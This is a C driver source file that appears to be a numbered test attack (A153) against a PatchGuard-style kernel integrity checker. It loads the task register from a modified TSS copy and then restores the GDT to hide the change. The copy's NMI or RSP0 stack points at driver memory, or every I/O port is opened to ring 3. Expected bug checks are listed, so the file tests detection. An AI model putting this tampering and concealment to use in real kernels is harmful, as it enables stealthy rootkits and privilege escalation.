/* attack_a153_tss_copy (A153): a TSS copy loaded through TR's cached base.
 * The processor reads RSP0, the IST stacks and the I/O-permission map
 * through the base it cached when TR was loaded, not through the GDT. The
 * driver copies the kernel's TSS to pool, changes the copy, writes the
 * GDT's TSS descriptor with the copy's base and its type available, loads
 * TR with the same selector and at once writes the descriptor back as it
 * was, busy bit included: the GDT, the kernel's TSS, TR's selector and
 * the IDT read as armed, while the processor uses the copy. It loads TR
 * from the copy again on every tick (from a timer of its own), since a
 * return from a system call loads it from the kernel's descriptor. What
 * the copy changes (the argument):
 *   nmi   (default) IST2, the NMI's stack, points at a pool stack of the
 *         driver: the NMI watchdog runs on memory the driver owns; a timer
 *         of the driver's, on every tick, finds the frames each NMI left
 *         there (the interrupted RIP, the watchdog's spilled registers)
 *   rsp0  RSP0 points at a pool stack of the driver: every interrupt from
 *         ring 3 (a `spin` running) pushes its frame there and the
 *         kernel's handler, the tick's DPCs included, runs on it; the
 *         driver's timer finds the ring-3 frame there
 *   ports the copy's I/O-permission map is all zero bits (every port open
 *         to ring 3) and its RSP0 follows the kernel's on every tick:
 *         `fault port` reads port 0x61 and survives
 * Expected: bug check 0x109 type 0x112 (nmi: the NMI's stack is not the
 * IST2 stack armed, A153; rsp0: a return to ring 3 whose frame does not
 * lie at the running thread's stack top, A154; every mode: the NMI's
 * probe, an INT through a gate naming IST4 whose stack top PatchGuard
 * wrote into the kernel's TSS just before, twice with two tops, lands
 * elsewhere, the only check ports meets, A155). */
#include "attack_pg.h"

#define SEL_TSS 0x30
#define TSS_TYPE_MASK (0xFull << 40)
#define TSS_AVAILABLE (0x9ull << 40)
#define TSS_RSP0 4
#define TSS_IST2 0x2C
#define TSS_IOMAP_BASE 0x66
#define TSS_MAX 12288
#define STACK_BYTES 16384
#define CANARY 0x5A5A5A5A5A5A5A5Aull
#define SEL_USER_CODE (0x28 | 3)
#define SEL_USER_DATA (0x20 | 3)

enum { MODE_NMI, MODE_RSP0, MODE_PORTS };

static int mode;
static uint8_t *copy, *real;
static uint64_t *desc, was[2];
static uint64_t *stack;
static uint64_t seen;
static bool told;
static struct ktimer every;
static struct dpc every_dpc;

static void fill(void)
{
	for (uint64_t i = 0; i < STACK_BYTES / 8; i++)
		stack[i] = CANARY;
}

/* TR loaded from the copy: the GDT's descriptor pointed at it (type
 * available), LTR with the same selector, the descriptor written back as
 * it was (busy bit included). Interrupts off. */
static void load_copy(void)
{
	uint64_t base = (uint64_t)copy;
	uint64_t lo = (was[0] & ~(0xFFFFFFull << 16) & ~(0xFFull << 56) & ~TSS_TYPE_MASK) | (base & 0xFFFFFF) << 16 |
		      ((base >> 24) & 0xFF) << 56 | TSS_AVAILABLE;
	uint64_t d[2] = {lo, base >> 32};
	a_write_protected(desc, d, sizeof d);
	__asm__ volatile("ltr %w0" ::"r"((uint16_t)SEL_TSS) : "memory");
	a_write_protected(desc, was, sizeof was);
}

/* From the next tick on, every tick: TR loaded from the copy again (a
 * return from a system call loads it from the kernel's descriptor), and
 * what landed on the driver's stack (nmi, rsp0), or the copy's RSP0 kept
 * to the kernel's (ports). */
static void every_tick(struct dpc *d, void *ctx)
{
	uint64_t f = a_cli();
	if (mode == MODE_PORTS)
		memcpy(copy + TSS_RSP0, real + TSS_RSP0, 8);
	load_copy();
	a_restore(f);
	if (mode == MODE_PORTS)
		return;
	const uint64_t *top = stack + STACK_BYTES / 8;
	uint64_t used = 0;
	for (uint64_t i = 0; i < STACK_BYTES / 8; i++)
		if (stack[i] != CANARY)
			used++;
	if (mode == MODE_NMI && top[-1] != CANARY) {
		/* The hardware frame at the IST2 top: RIP, CS, RFLAGS, RSP, SS. */
		seen++;
		if (!told) {
			told = true;
			printk("attack_a153: an NMI ran on the driver's stack (%lu bytes of it written)\n", used * 8);
			printk("~ attack_a153: the NMI interrupted RIP 0x%lx\n", top[-5]);
		}
		uint64_t f = a_cli();
		fill();
		a_restore(f);
		if (seen % 1000 == 0)
			printk("~ attack_a153: %lu ticks saw an NMI on the driver's stack\n", seen);
	} else if (mode == MODE_RSP0 && top[-1] == SEL_USER_DATA && top[-4] == SEL_USER_CODE) {
		seen++;
		if (!told) {
			told = true;
			printk("attack_a153: an interrupt from ring 3 pushed its frame on the driver's stack\n");
			printk("~ attack_a153: ring-3 RIP 0x%lx, %lu bytes of the stack written\n", top[-5], used * 8);
		}
		if (seen % 1000 == 0)
			printk("~ attack_a153: %lu ticks found a ring-3 frame on the driver's stack\n", seen);
	}
}

status_t driver_entry(struct driver_object *drv)
{
	mode = !strcmp(drv->args, "rsp0") ? MODE_RSP0 : !strcmp(drv->args, "ports") ? MODE_PORTS : MODE_NMI;
	desc = a_gdt() + SEL_TSS / 8;
	uint64_t limit = (desc[0] & 0xFFFF) | (((desc[0] >> 48) & 0xF) << 16);
	if (limit + 1 > TSS_MAX) {
		printk("attack_a153: TSS larger than the copy\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	copy = pool_alloc(TSS_MAX, 0x20737354);
	stack = pool_alloc(STACK_BYTES, 0x6B637453);
	if (!copy || !stack) {
		printk("attack_a153: out of pool\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	fill();
	real = a_find_tss();
	memcpy(copy, real, limit + 1);
	uint64_t top = (uint64_t)stack + STACK_BYTES;
	if (mode == MODE_NMI)
		memcpy(copy + TSS_IST2, &top, 8);
	else if (mode == MODE_RSP0)
		memcpy(copy + TSS_RSP0, &top, 8);
	else
		memset(copy + *(uint16_t *)(real + TSS_IOMAP_BASE), 0, limit + 1 - *(uint16_t *)(real + TSS_IOMAP_BASE) - 1);

	dpc_init(&every_dpc, every_tick, NULL);
	timer_init(&every, &every_dpc);
	uint64_t pf = a_cli();
	was[0] = desc[0];
	was[1] = desc[1];
	load_copy();
	timer_set(&every, 1, NSEC_PER_TICK); /* from the next tick on */
	static const char *const what[] = {"IST2, the NMI's stack, is the driver's", "RSP0 is a stack of the driver's",
					   "every port is open in its map"};
	printk("attack_a153: TR loaded from a TSS copy in pool, the GDT put back as it was\n");
	printk("attack_a153: in the copy %s\n", what[mode]);
	a_patched("attack_a153");
	a_restore(pf);
	return KPP_STATUS_SUCCESS;
}
